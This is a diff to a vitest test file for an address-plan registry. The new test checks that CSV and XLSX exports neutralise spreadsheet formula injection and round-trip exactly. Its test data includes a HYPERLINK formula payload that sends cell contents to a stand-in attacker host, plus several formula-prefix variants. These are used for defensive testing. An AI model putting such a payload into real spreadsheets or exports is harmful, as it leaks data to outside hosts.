@@ -1,3 +1,4 @@
+import { Readable } from 'node:stream';
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { backends, countRows, startTestApp, type TestApp } from '../support/harness.js';
@@ -47,7 +48,8 @@ describe.each(backends)('address plan import and export on %s', (backend) => {
     expect(csv.status).toBe(200);
     const exported = csv.text.trim().split(/\r?\n/);
     expect(exported[0]).toBe('vrf,cidr,holder,status,description');
-    expect(exported.slice(1).sort()).toEqual(plan.split('\r\n').slice(1).sort());
+    // The formula-looking description leaves as text: one apostrophe in front (OWASP CSV injection).
+    expect(exported.slice(1).sort()).toEqual(plan.split('\r\n').slice(1).map((line) => line.replace(',=SUM', ",'=SUM")).sort());
 
     // Round trip through XLSX into a fresh registry gives the same export.
     const file = await t.app.request('/api/v1/prefixes/export?format=xlsx', { headers: { authorization: `Bearer ${t.adminToken}` } });
@@ -66,6 +68,71 @@ describe.each(backends)('address plan import and export on %s', (backend) => {
       expect(csv2.text).toBe(csv.text);
     } finally {
       await fresh.close();
+    }
+  });
+
+  it('exports no live formulas, and imports its own export back exactly, as CSV and as XLSX', async () => {
+    const descriptions = [
+      '=HYPERLINK("http://attacker.example/?leak="&A1,"点击查看")',
+      '+1+1',
+      '-1+1 负一',
+      '@SUM(1,1)',
+      '＝1+1',
+      "'=1+1",
+      "'just an apostrophe",
+      "''two",
+      'plain, with "quotes"',
+      '',
+    ];
+    const source = await startTestApp(backend);
+    try {
+      const root = await source.call('POST', '/api/v1/prefixes', { body: { cidr: '10.77.0.0/16', holder: '450000', description: descriptions[0] } });
+      expect(root.status, root.text).toBe(201);
+      for (const [i, description] of descriptions.slice(1).entries()) {
+        const child = await source.call('POST', '/api/v1/prefixes', { body: { cidr: `10.77.${i}.0/24`, holder: '450000', status: 'reserved', description } });
+        expect(child.status, child.text).toBe(201);
+      }
+      const original = (await source.call('GET', '/api/v1/prefixes?vrf=public&limit=100')).body.items.map((p: { cidr: string; description: string }) => [p.cidr, p.description]);
+      expect(original.map((p: string[]) => p[1]).sort()).toEqual([...descriptions].sort());
+
+      // CSV: no cell begins with a character that makes a spreadsheet read a formula.
+      const csv = await source.call('GET', '/api/v1/prefixes/export?format=csv');
+      const csvSheet = await new ExcelJS.Workbook().csv.read(Readable.from([Buffer.from(csv.text)]), { map: (v: unknown) => v } as never);
+      const csvCells: string[] = [];
+      csvSheet.eachRow((row) => row.eachCell((cell) => void csvCells.push(String(cell.value))));
+      expect(csvCells).toContain(`'${descriptions[0]}`);
+      expect(csvCells).toContain("''just an apostrophe");
+      expect(csvCells.filter((c) => /^[=+\-@\t\r\n＝＋－＠]/.test(c))).toEqual([]);
+
+      // XLSX: every cell is a text cell in the Text number format; none is a formula.
+      const file = await source.app.request('/api/v1/prefixes/export?format=xlsx', { headers: { authorization: `Bearer ${source.adminToken}` } });
+      const bytes = new Uint8Array(await file.arrayBuffer());
+      const workbook = new ExcelJS.Workbook();
+      await workbook.xlsx.load(Buffer.from(bytes) as never);
+      const xlsxCells: ExcelJS.Cell[] = [];
+      workbook.worksheets[0].eachRow((row) => row.eachCell((cell) => void xlsxCells.push(cell)));
+      expect(xlsxCells.length).toBe(5 * (descriptions.length + 1));
+      for (const cell of xlsxCells) {
+        expect(cell.type, String(cell.value)).toBe(ExcelJS.ValueType.String);
+        expect(cell.formula).toBeUndefined();
+        expect(cell.numFmt).toBe('@');
+      }
+      expect(xlsxCells.map((c) => c.value)).toContain(descriptions[0]);
+
+      // Each export imported into an empty registry restores every description exactly.
+      for (const [format, raw, type] of [['csv', csv.text, 'text/csv'], ['xlsx', bytes, xlsx]] as const) {
+        const fresh = await startTestApp(backend);
+        try {
+          const imported = await fresh.call('POST', '/api/v1/prefixes/import', { raw, headers: { 'content-type': type } });
+          expect(imported.status, `${format}: ${imported.text}`).toBe(201);
+          const again = (await fresh.call('GET', '/api/v1/prefixes?vrf=public&limit=100')).body.items.map((p: { cidr: string; description: string }) => [p.cidr, p.description]);
+          expect(again, format).toEqual(original);
+        } finally {
+          await fresh.close();
+        }
+      }
+    } finally {
+      await source.close();
     }
   });
 
